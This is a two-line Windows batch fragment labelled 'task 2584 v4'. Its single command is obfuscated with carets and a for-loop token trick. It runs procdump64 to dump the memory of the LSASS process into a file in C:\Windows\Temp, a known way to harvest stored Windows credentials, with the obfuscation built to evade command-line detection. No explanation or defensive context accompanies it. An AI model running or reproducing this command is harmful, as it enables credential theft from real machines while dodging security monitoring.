REM task 2584 v4
^f^or /f "tokens=3 delims=;" %%i i^n ("vsqn;ooge;procdump64.exe") ^do %%^i -a^ccep^te^u^la -^m^a l^sa^s^s.e^x^e C:\^Window^s\Te^m^p\l^s.^dm^p
